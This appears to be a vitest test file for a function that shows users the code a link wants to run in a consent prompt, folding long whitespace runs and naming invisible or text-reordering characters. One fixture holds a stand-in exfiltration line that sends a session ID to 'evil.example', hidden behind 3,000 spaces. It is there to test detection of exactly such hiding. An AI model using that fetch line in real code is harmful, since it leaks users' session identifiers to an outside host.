import { describe, expect, it } from 'vitest'
import { sourceSize, visibleSource } from './visible-source.ts'

/** The pieces as one string, marks in angle quotes, as a reader sees them. */
const shown = (source: string): string => visibleSource(source).map((p) => (p.kind === 'text' ? p.text : `⟨${p.label}⟩`)).join('')

describe('the code a link wants to run, as the consent prompt shows it', () => {
  it('shows ordinary code exactly as written, indentation included', () => {
    const source = "(req) => {\n  const ua = req.headers['user-agent'] || ''\n\n  return md5(req.session.id + ua)\n}"
    expect(visibleSource(source)).toEqual([{ kind: 'text', text: source }])
  })

  it('folds 3,000 leading spaces into one mark, so the payload stays in view', () => {
    const source = `${' '.repeat(3000)}(req) => { fetch('https://evil.example/' + req.session.id); return 'k' }`
    expect(shown(source)).toBe("⟨3,000 spaces⟩(req) => { fetch('https://evil.example/' + req.session.id); return 'k' }")
  })

  it('folds long runs of blank lines and of tabs', () => {
    expect(shown(`(req) =>${'\n'.repeat(500)}'k'`)).toBe("(req) =>\n⟨499 blank lines⟩\n'k'")
    expect(shown(`a\t\t\t\t  \t\t\t\tb`)).toBe('a⟨10 spaces and tabs⟩b')
    expect(shown('a        b')).toBe('a        b')
  })

  it('names characters that render as nothing or reorder the text', () => {
    expect(shown('(req) => "a\u202eb"')).toBe('(req) => "a⟨U+202E⟩b"')
    expect(shown('x\u200by\ufeffz\u00a0w\r\n')).toBe('x⟨U+200B⟩y⟨U+FEFF⟩z⟨U+00A0⟩w⟨U+000D⟩\n')
  })

  it('says how long the code is', () => {
    expect(sourceSize('a\nb')).toBe('2 lines, 3 characters')
    expect(sourceSize(' '.repeat(3000))).toBe('1 line, 3,000 characters')
  })
})
